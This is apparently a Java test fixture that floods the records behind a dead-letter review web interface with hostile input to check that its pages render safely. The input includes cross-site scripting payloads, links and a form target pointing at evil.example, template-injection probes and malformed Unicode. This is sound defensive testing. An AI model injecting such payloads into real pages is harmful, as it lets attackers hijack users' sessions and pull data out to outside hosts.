package dev.leadrelay.deadletter;

import static org.assertj.core.api.Assertions.assertThat;

import dev.leadrelay.schemas.records.AgentRun;
import dev.leadrelay.schemas.records.AgentState;
import dev.leadrelay.schemas.records.AgentStatus;
import dev.leadrelay.schemas.records.Claim;
import dev.leadrelay.schemas.records.Contradiction;
import dev.leadrelay.schemas.records.ContradictoryStatement;
import dev.leadrelay.schemas.records.DeadLetter;
import dev.leadrelay.schemas.records.DecisionKind;
import dev.leadrelay.schemas.records.Draft;
import dev.leadrelay.schemas.records.Evidence;
import dev.leadrelay.schemas.records.EvidenceKind;
import dev.leadrelay.schemas.records.HandoffHeader;
import dev.leadrelay.schemas.records.Lead;
import dev.leadrelay.schemas.records.LeadResult;
import dev.leadrelay.schemas.records.LeadStatus;
import dev.leadrelay.schemas.records.ListProgress;
import dev.leadrelay.schemas.records.OriginalRecord;
import dev.leadrelay.schemas.records.OutcomeKind;
import dev.leadrelay.schemas.records.Provenance;
import dev.leadrelay.schemas.records.RecordHeader;
import dev.leadrelay.schemas.records.Research;
import dev.leadrelay.schemas.records.ResearchStatus;
import dev.leadrelay.schemas.records.RunExit;
import dev.leadrelay.schemas.records.RunStep;
import dev.leadrelay.schemas.records.RunStepKind;
import dev.leadrelay.schemas.records.Severity;
import dev.leadrelay.schemas.records.Stage;
import dev.leadrelay.schemas.records.TriageDecision;
import dev.leadrelay.schemas.records.Usage;
import dev.leadrelay.schemas.records.Violation;
import java.net.URLEncoder;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.regex.Pattern;
import org.apache.avro.specific.SpecificRecord;
import org.awaitility.Awaitility;

/** A desk over what an attacker or a broken producer would put on the topics, and the address of each of its pages. */
final class HostileDesk implements AutoCloseable {
    /** What would run, if it stood in a page as it is; whatever runs leaves a mark at the window or opens a dialog. */
    static final List<String> SCRIPTS = List.of(
            "<script>window.__owned='script'</script>",
            "\"><img src=x onerror=\"window.__owned=alert(1)\">",
            "</textarea></pre></bdi><svg onload=window.__owned=1>",
            "<iframe srcdoc=\"<script>parent.__owned=1</script>\"></iframe>",
            "<input autofocus onfocus='window.__owned=1'>",
            "<img src=http://evil.example/pixel>");

    private static final List<String> OTHERS = List.of(
            "' autofocus onfocus='window.__owned=1",
            "javascript:window.__owned=1//",
            "<a href=\"javascript:window.__owned=1\" hx-get=\"http://evil.example/\" hx-trigger=load>link</a>",
            "<style>main{display:none}</style><base href=http://evil.example/><form action=http://evil.example>",
            "${7*7} {{7*7}} <%= 7*7 %>",
            "\u202Egnp.exe\u202C \u2066left\u2069 \u200B\uFEFF",
            "\u0000\u0001\u001B[31m\uFFFE\uD83D",
            "a/b?c#d&e=f;g%2e%2e",
            "one-word-" + "W".repeat(2_000));

    static final List<String> TEXTS =
            List.of(SCRIPTS, OTHERS).stream().flatMap(List::stream).toList();

    private static final Pattern PARAMETER = Pattern.compile("\\{(\\w+)}");

    /** A page, and whether it is refused because the dead letter lacks what it would show. */
    record Address(String path, boolean refused) {}

    final TestHandler handler = new TestHandler(new FakeBroker(), new TestStore());
    final List<DeadLetter> letters = new ArrayList<>();
    private final String led;
    private final String job;

    HostileDesk() {
        for (String text : TEXTS) {
            letters.add(hostile(letters.size(), text));
        }
        letters.add(reply());
        letters.add(huge());
        letters.add(broken());
        letters.forEach(letter -> {
            handler.park(letter);
            handler.awaitState(letter, ItemState.OPEN);
        });
        decide(letters.get(0), TEXTS.get(0));
        String topic = Samples.TOPICS.triageOutcomes().name();
        handler.broker.add(topic, "key", "<script>no avro</script>".getBytes(StandardCharsets.UTF_8));
        Awaitility.await().until(() -> handler.store.queries.unreadableCount() == 1);
        for (DeadLetter letter : letters) {
            if (letter.getLeadKey() != null) {
                handler.end(ended(letter));
                run(letter);
                around(letter);
            }
        }
        long leads = letters.stream()
                .map(DeadLetter::getLeadKey)
                .filter(Objects::nonNull)
                .distinct()
                .count();
        Awaitility.await()
                .untilAsserted(() ->
                        assertThat(handler.store.content().get("lead_end")).hasSize((int) leads));
        led = handler.store
                .queries
                .item(letters.get(0).getDeadLetterId())
                .orElseThrow()
                .leadKey();
        List<String> ids = letters.stream().map(DeadLetter::getDeadLetterId).toList();
        job = handler.bulk
                .jobs()
                .start(
                        new BulkSelection.Ids(ids),
                        new BulkOrder(DecisionKind.PIN, TEXTS.get(1), null, null, TEXTS.get(2), 1000.0, null),
                        null,
                        true)
                .id();
    }

    /** Every page that the router knows, for every dead letter. */
    List<Address> pages() {
        List<String> routes = handler.routes().stream()
                .filter(route -> route.startsWith("GET /desk"))
                .map(route -> route.substring("GET ".length()))
                .filter(path -> !path.startsWith("/desk/assets"))
                .toList();
        assertThat(routes).contains("/desk", "/desk/letters", "/desk/letters/{id}", "/desk/letters/{id}/run");
        List<Address> pages = new ArrayList<>();
        for (String route : routes) {
            for (DeadLetter letter : letters) {
                boolean refused = route.endsWith("/edit") && letter.getRequest() == null && !raw(letter)
                        || route.endsWith("/original") && letter.getOriginal() == null;
                Address page = new Address(filled(route, letter) + needs(route, letter), refused);
                if (!pages.contains(page)) {
                    pages.add(page);
                }
            }
        }
        return pages;
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private String filled(String route, DeadLetter letter) {
        return PARAMETER.matcher(route).replaceAll(parameter -> {
            assertThat(parameter.group(1))
                    .as("a value for each parameter of " + route)
                    .isEqualTo("id");
            return route.startsWith("/desk/bulk/") ? job : encoded(letter.getDeadLetterId());
        });
    }

    /** What a page needs behind the question mark; the others need nothing. */
    private String needs(String route, DeadLetter letter) {
        Item stored = handler.store.queries.item(letter.getDeadLetterId()).orElseThrow();
        String list = encoded(stored.listId() == null ? "none" : stored.listId());
        return switch (route) {
            case "/desk/list", "/desk/list.csv", "/desk/list.jsonl" -> "?id=" + list;
            case "/desk/lead" -> "?key=" + encoded(stored.leadKey() == null ? led : stored.leadKey());
            case "/desk/letters/{id}" ->
                letters.indexOf(letter) % 2 == 0
                        ? ""
                        : "?done=RETRY&decision=" + encoded(TEXTS.get(letters.indexOf(letter) % TEXTS.size()));
            case "/desk/letters/{id}/edit" ->
                "?kind=" + (raw(letter) ? "ACCEPT" : "RETRY_EDITED") + "&view="
                        + (letters.indexOf(letter) % 2 == 0 ? "json" : "form");
            case "/desk/bulk/new" -> "?kind=RETRY&fingerprint=" + encoded(stored.fingerprint());
            default -> "";
        };
    }

    /** One of which only the model's reply is there, for the JSON editor. */
    private static boolean raw(DeadLetter letter) {
        return letter.getCandidate() instanceof CharSequence;
    }

    private void decide(DeadLetter letter, String text) {
        DecisionRequest request =
                new DecisionRequest(letter.getDeadLetterId(), DecisionKind.DISCARD, text, text, false);
        TriageDecision decision = DecisionRecords.decision(letter, request, 0, letter.getParkedAt());
        add(Samples.TOPICS.triageDecisions().name(), "key", decision);
        handler.answer(Samples.outcome(decision, OutcomeKind.REFUSED, text));
        Awaitility.await()
                .until(() -> handler.store.queries.decisions(letter.getDeadLetterId()).stream()
                        .anyMatch(each -> each.outcome() != null));
    }

    private void add(String topic, String key, SpecificRecord value) {
        handler.broker.add(topic, key, handler.codec.encode(topic, value));
    }

    private static DeadLetter hostile(int number, String text) {
        return DeadLetter.newBuilder(Samples.parked(number))
                .setDeadLetterId("id" + number + printable(text))
                .setMessage(text)
                .setFingerprint(text)
                .setLeadKey("list/" + text)
                .setListId(text)
                .setRunId(text)
                .setViolations(List.of(new Violation(text, "/company", text, Severity.REJECT)))
                .setRequest(Lead.newBuilder()
                        .setLeadId(text)
                        .setFullName(text)
                        .setTitle(text)
                        .setCompany(text)
                        .setExtra(Map.of(text, text))
                        .build())
                .setCandidate(draft(text))
                .build();
    }

    private static Draft draft(String text) {
        return Draft.newBuilder()
                .setLanguage("en")
                .setSubject(text)
                .setBody(text)
                .setFooter(text)
                .build();
    }

    /** A result in which every text is the letter's. */
    private static LeadResult ended(DeadLetter letter) {
        String text = letter.getMessage();
        Evidence evidence = new Evidence(text, EvidenceKind.WEB_PAGE, text, text, text, text, letter.getParkedAt());
        Research research = Research.newBuilder()
                .setStatus(ResearchStatus.COMPLETE)
                .setCompanyName(text)
                .setEvidence(List.of(evidence))
                .setClaims(List.of(new Claim(text, text, List.of(text))))
                .setContradictions(List.of(new Contradiction(text, List.of(new ContradictoryStatement(text, text)))))
                .build();
        Lead lead = Lead.newBuilder()
                .setLeadId("lead")
                .setFullName(text)
                .setCompany(text)
                .build();
        return LeadResult.newBuilder(Samples.result(letter, LeadStatus.DISCARDED, text, 9))
                .setExternalId(text)
                .setLead(lead)
                .setResearch(research)
                .setDraft(draft(text))
                .build();
    }

    /** The run log of the dead letter, whose prompts, replies and errors say the same. */
    private void run(DeadLetter letter) {
        String text = letter.getMessage();
        Instant at = letter.getParkedAt();
        AgentRun run = AgentRun.newBuilder()
                .setRunId(letter.getRunId())
                .setHeader(HandoffHeader.newBuilder()
                        .setHandoffId(text)
                        .setListId(text)
                        .setLeadId(text)
                        .setStage(letter.getStage())
                        .setAttempt(1)
                        .setIssuedAt(at)
                        .setBudgetTokens(1)
                        .setBudgetCostMicros(1)
                        .setHop(1)
                        .setLineage(text)
                        .build())
                .setProvenance(new Provenance(text, text, text, text, text, text, text, text, true, at, at, null))
                .setExit(RunExit.FAILED)
                .setUsage(new Usage(1, 2L, 3L, 4L))
                .setSteps(List.of(RunStep.newBuilder()
                        .setKind(RunStepKind.MODEL_CALL)
                        .setName(text)
                        .setAt(at)
                        .setLatencyMillis(5)
                        .setInput(text)
                        .setOutput(text)
                        .setError(text)
                        .setViolations(letter.getViolations())
                        .build()))
                .build();
        String topic = Samples.TOPICS.agentRuns().name();
        handler.broker.add(topic, letter.getLeadKey(), handler.codec.encode(topic, run), at.toEpochMilli());
    }

    /** The list it came with and an agent that worked on it, as the overview shows them. */
    private void around(DeadLetter letter) {
        String text = letter.getMessage();
        Instant at = letter.getParkedAt();
        add(
                Samples.TOPICS.progress().name(),
                letter.getListId(),
                ListProgress.newBuilder()
                        .setListId(letter.getListId())
                        .setSource(text)
                        .setAccepted(1)
                        .setDelivered(0)
                        .setDisqualified(0)
                        .setDiscarded(1)
                        .setParked(0)
                        .setActive(0)
                        .setQueued(0)
                        .setDuplicates(0)
                        .setUnattributed(0)
                        .setBalanced(true)
                        .setComplete(true)
                        .setSettled(true)
                        .setCancelled(false)
                        .setPartsReceived(1)
                        .setWindow(50)
                        .setModelCalls(1)
                        .setTokens(1)
                        .setSpentMicros(1)
                        .setReservedMicros(0)
                        .setSubmittedAt(at)
                        .setUpdatedAt(at)
                        .build());
        add(
                Samples.TOPICS.agentStatus().name(),
                text,
                AgentStatus.newBuilder()
                        .setStage(Stage.RESEARCH)
                        .setInstance(text)
                        .setState(AgentState.PAUSED)
                        .setReason(text)
                        .setInFlight(3)
                        .setCapacity(10)
                        .setBacklog(5)
                        .setVersion(text)
                        .setIntervalMillis(2_000)
                        .setStartedAt(at)
                        .setAt(at)
                        .build());
    }

    /** A raw reply that would end the editor it stands in. */
    private static DeadLetter reply() {
        return DeadLetter.newBuilder(Samples.parked(99))
                .setCandidate(String.join("\n", SCRIPTS))
                .build();
    }

    private static DeadLetter huge() {
        return DeadLetter.newBuilder(Samples.parked(100))
                .setCandidate("<b>".repeat(5_000_000 / 3))
                .build();
    }

    private static DeadLetter broken() {
        byte[] bytes = new byte[5_000_000];
        new Random(1).nextBytes(bytes);
        DeadLetter stray = Samples.stray(7, bytes);
        return DeadLetter.newBuilder(stray)
                .setOriginal(OriginalRecord.newBuilder(stray.getOriginal())
                        .setTopic("<script>topic</script>")
                        .setHeaders(
                                List.of(new RecordHeader("<script>name</script>", ByteBuffer.wrap(bytes, 0, 3_000))))
                        .build())
                .build();
    }

    /** As hostile as an identifier may be and still be one. */
    private static String printable(String text) {
        return text.chars()
                .filter(c -> c > ' ' && c < 127 && "/\\%;".indexOf(c) < 0)
                .limit(80)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    @Override
    public void close() {
        handler.close();
    }
}
